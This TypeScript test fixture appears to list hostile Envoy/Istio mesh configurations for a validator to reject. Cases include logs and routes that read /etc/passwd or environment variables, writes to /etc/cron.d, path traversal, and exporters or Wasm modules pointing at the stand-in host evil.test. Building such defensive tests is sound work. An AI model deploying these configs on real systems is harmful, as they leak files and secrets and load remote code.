import { typeUrl } from '../walk.ts';
import { extension, filter, type Hostile, http, listener, log } from './hostile.ts';

export const hostileListeners: Hostile[] = [
  [
    'Sidecar: bind',
    listener({ address: { socketAddress: { address: '192.168.0.7', portValue: 8080 } } }),
    '192.168.0.7',
  ],
  ['Sidecar: bind to a Unix socket', listener({ address: { pipe: { path: '/tmp/mine.sock' } } }), '/tmp/mine.sock'],
  [
    'EnvoyFilter: a further address of a listener',
    listener({ additionalAddresses: [{ address: { socketAddress: { address: '0.0.0.0', portValue: 22 } } }] }),
    'additionalAddresses',
  ],
  ['EnvoyFilter: a listener for UDP', listener({ udpListenerConfig: {} }), 'udpListenerConfig'],
  [
    'EnvoyFilter: a default chain that needs no secret',
    listener({ defaultFilterChain: { name: 'open', filters: [] } }),
    'defaultFilterChain',
  ],
  [
    'EnvoyFilter: another network namespace',
    listener({
      address: { socketAddress: { address: '0.0.0.0', portValue: 80, networkNamespaceFilepath: '/var/run/netns/x' } },
    }),
    'netns',
  ],
  [
    'mesh config: accessLogFile',
    log('access_loggers.file.v3.FileAccessLog', { path: '/etc/cron.d/x' }),
    '/etc/cron.d/x',
  ],
  [
    'mesh config: accessLogFile beside the pod’s folder',
    log('access_loggers.file.v3.FileAccessLog', { path: '/run/mesh-labs/r1/shop.web/../shop.db/x' }),
    '..',
  ],
  [
    'Telemetry: an access log that reads a file',
    log('access_loggers.stream.v3.StdoutAccessLog', {
      logFormat: { textFormatSource: { inlineString: '%FILE_CONTENT(/etc/passwd)%' } },
    }),
    '/etc/passwd',
  ],
  [
    'Telemetry: an access log that reads the environment',
    log('access_loggers.stream.v3.StdoutAccessLog', { logFormat: { jsonFormat: { home: '%ENVIRONMENT(HOME)%' } } }),
    'ENVIRONMENT',
  ],
  [
    'Telemetry: a format from a file',
    log('access_loggers.stream.v3.StdoutAccessLog', { logFormat: { textFormatSource: { filename: '/etc/passwd' } } }),
    '/etc/passwd',
  ],
  [
    'Telemetry: a log service by address',
    log('access_loggers.open_telemetry.v3.OpenTelemetryAccessLogConfig', {
      commonConfig: { grpcService: { googleGrpc: { targetUri: 'evil.test:1' } } },
    }),
    'evil.test',
  ],
  [
    'Telemetry: tracing by address',
    http({
      tracing: {
        provider: {
          name: 'x',
          typedConfig: {
            '@type': typeUrl('envoy.config.trace.v3.XRayConfig'),
            daemonEndpoint: { address: '9.9.9.9', portValue: 1 },
          },
        },
      },
    }),
    '9.9.9.9',
  ],
  [
    'AuthorizationPolicy CUSTOM: a service by address',
    filter('filters.http.ext_authz.v3.ExtAuthz', { grpcService: { googleGrpc: { targetUri: 'evil.test:1' } } }),
    'evil.test',
  ],
  [
    'WasmPlugin: a module from the network',
    filter('filters.http.wasm.v3.Wasm', {
      config: { vmConfig: { code: { remote: { httpUri: { uri: 'http://evil.test', cluster: '_' } } } } },
    }),
    'evil.test',
  ],
  [
    'WasmPlugin: a file of the machine',
    filter('filters.http.wasm.v3.Wasm', { config: { vmConfig: { code: { local: { filename: '/usr/lib/x.wasm' } } } } }),
    '/usr/lib',
  ],
  [
    'WasmPlugin: native code and the environment',
    filter('filters.http.wasm.v3.Wasm', {
      config: {
        vmConfig: {
          runtime: 'envoy.wasm.runtime.null',
          allowPrecompiled: true,
          environmentVariables: { hostEnvKeys: ['HOME'] },
        },
      },
    }),
    /runtime.null|allowPrecompiled|HOME/,
  ],
  [
    'EnvoyFilter: a dynamic module',
    filter('filters.http.dynamic_modules.v3.DynamicModuleFilter', { dynamicModuleConfig: { name: 'x' } }),
    'dynamic_modules',
  ],
  [
    'EnvoyFilter: the same inside of a TypedStruct',
    http({}, [
      {
        name: 'f',
        typedConfig: {
          '@type': typeUrl('udpa.type.v1.TypedStruct'),
          typeUrl: extension('filters.http.dynamic_modules.v3.DynamicModuleFilter'),
          value: { dynamic_module_config: { name: 'x' } },
        },
      },
    ]),
    'dynamic_modules',
  ],
  [
    'EnvoyFilter: tap',
    filter('filters.http.tap.v3.Tap', {
      commonConfig: { staticConfig: { outputConfig: { sinks: [{ filePerTap: { pathPrefix: '/tmp/t' } }] } } },
    }),
    '/tmp/t',
  ],
  [
    'EnvoyFilter: a type of another prefix',
    http({}, [{ name: 'f', typedConfig: { '@type': 'evil.test/envoy.extensions.filters.http.router.v3.Router' } }]),
    'evil.test',
  ],
  [
    'EnvoyFilter: Lua from a file',
    filter('filters.http.lua.v3.Lua', { defaultSourceCode: { filename: '/etc/passwd' } }),
    '/etc/passwd',
  ],
  [
    'EnvoyFilter: Lua as bytes',
    filter('filters.http.lua.v3.Lua', { sourceCodes: { a: { inlineBytes: 'G0xK' } } }),
    'G0xK',
  ],
  [
    'EnvoyFilter: routes from another server',
    http({ scopedRoutes: { name: 'x', scopedRds: { scopedRdsConfigSource: { ads: {} } } } }),
    'scopedRoutes',
  ],
  [
    'EnvoyFilter: a route that answers with a file',
    {
      routes: [
        {
          name: '80',
          virtualHosts: [
            {
              name: 'v',
              domains: ['*'],
              routes: [{ match: { prefix: '/' }, directResponse: { status: 200, body: { filename: '/etc/passwd' } } }],
            },
          ],
        },
      ],
    },
    '/etc/passwd',
  ],
  [
    'EnvoyFilter: a route that answers with the environment',
    {
      routes: [
        {
          name: '80',
          virtualHosts: [
            {
              name: 'v',
              domains: ['*'],
              routes: [
                { match: { prefix: '/' }, directResponse: { status: 200, body: { environmentVariable: 'HOME' } } },
              ],
            },
          ],
        },
      ],
    },
    'HOME',
  ],
  [
    'EnvoyFilter: a header from a file',
    { routes: [{ name: '80', requestHeadersToAdd: [{ header: { key: 'x', value: '%FILE_CONTENT(/etc/passwd)%' } }] }] },
    '/etc/passwd',
  ],
  [
    'EnvoyFilter: a filter of one route',
    {
      routes: [
        {
          name: '80',
          typedPerFilterConfig: {
            x: { '@type': extension('filters.http.dynamic_modules.v3.DynamicModuleFilterPerRoute') },
          },
        },
      ],
    },
    'dynamic_modules',
  ],
  [
    'ECDS: the same apart from the listener',
    {
      extensionConfigs: [
        { name: 'x', typedConfig: { '@type': extension('filters.http.dynamic_modules.v3.DynamicModuleFilter') } },
      ],
    },
    'dynamic_modules',
  ],
  [
    'EnvoyFilter: a dynamic module under a key that looks like metadata',
    listener({
      filterChainMatcher: {
        matcherTree: {
          exactMatchMap: {
            map: {
              filterMetadata: {
                action: { name: 'x', typedConfig: { '@type': extension('filters.http.dynamic_modules.v3.X') } },
              },
            },
          },
        },
      },
    }),
    'dynamic_modules',
  ],
];
